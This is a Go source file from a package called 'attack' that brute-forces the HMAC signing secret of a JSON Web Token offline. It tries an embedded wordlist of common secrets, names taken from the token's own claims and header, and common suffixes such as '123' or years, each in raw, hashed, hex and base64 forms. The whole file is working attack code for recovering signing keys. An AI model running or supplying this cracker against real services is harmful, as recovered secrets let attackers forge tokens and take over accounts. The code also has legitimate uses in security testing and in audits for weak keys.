package attack

import (
	"bytes"
	"crypto"
	"crypto/hmac"
	"crypto/sha256"
	_ "embed" // for the list of secrets
	"encoding/base64"
	"encoding/hex"
	"net/url"
	"slices"
	"strings"
)

//go:embed secrets.txt
var secretList string

// HasMAC reports whether a secret signs the token (RFC 7518 section 3.2).
func (jwt *JWT) HasMAC() bool { return macHash(jwt) != 0 }

func macHash(jwt *JWT) crypto.Hash {
	return map[string]crypto.Hash{
		"HS256": crypto.SHA256,
		"HS384": crypto.SHA384,
		"HS512": crypto.SHA512,
	}[Text(jwt.Header, "alg")]
}

// GuessSecret looks for the secret that signs the token. It needs no request. It tries common
// secrets and the names in the token, in the encodings and with the endings that people use.
func (jwt *JWT) GuessSecret() (secret string, found bool) {
	hash := macHash(jwt)
	cut := strings.LastIndexByte(jwt.Token, '.')
	signature, err := DecodeBase64(jwt.Token[cut+1:])
	if hash == 0 || err != nil {
		return "", false
	}
	input := []byte(jwt.Token[:cut])
	for _, word := range jwt.words() {
		for _, ending := range []string{"", "1", "123", "1234", "!", "2024", "2025", "2026", "\n"} {
			text := word + ending
			signs := func(key []byte) bool {
				mac := hmac.New(hash.New, key)
				mac.Write(input)
				return bytes.Equal(mac.Sum(nil), signature)
			}
			if slices.ContainsFunc(keysOf(text), signs) {
				return text, true
			}
		}
	}
	return "", false
}

// words returns the texts that may be the secret.
func (jwt *JWT) words() []string {
	words := []string{""}
	for line := range strings.Lines(secretList) {
		if line = strings.TrimRight(line, "\r\n"); line != "" && !strings.HasPrefix(line, "#") {
			words = append(words, line)
		}
	}
	for _, member := range []any{
		jwt.Header["kid"], jwt.Header["typ"], jwt.Claims["iss"], jwt.Claims["aud"], jwt.Claims["sub"],
		jwt.Claims["client_id"], jwt.Claims["azp"], jwt.Claims["appid"], jwt.Claims["tid"], jwt.Claims["scope"],
	} {
		if text, isText := member.(string); isText && text != "" {
			words = append(words, text)
			words = append(words, namesIn(text)...)
		}
	}
	return words
}

// namesIn returns the host of a URL, and the labels of the host.
func namesIn(address string) []string {
	parsed, err := url.Parse(address)
	if err != nil || parsed.Host == "" {
		return nil
	}
	return append([]string{parsed.Host, parsed.Hostname()}, strings.Split(parsed.Hostname(), ".")...)
}

// keysOf returns the bytes that a program may make from a text: its own, decoded, or hashed.
func keysOf(text string) [][]byte {
	sum := sha256.Sum256([]byte(text))
	keys := [][]byte{[]byte(text), sum[:], []byte(hex.EncodeToString(sum[:]))}
	keys = append(keys, []byte(base64.StdEncoding.EncodeToString([]byte(text))))
	for _, encoding := range []*base64.Encoding{base64.StdEncoding, base64.RawStdEncoding, base64.RawURLEncoding} {
		if decoded, err := encoding.DecodeString(text); err == nil {
			keys = append(keys, decoded)
		}
	}
	if decoded, err := hex.DecodeString(text); err == nil {
		keys = append(keys, decoded)
	}
	return keys
}
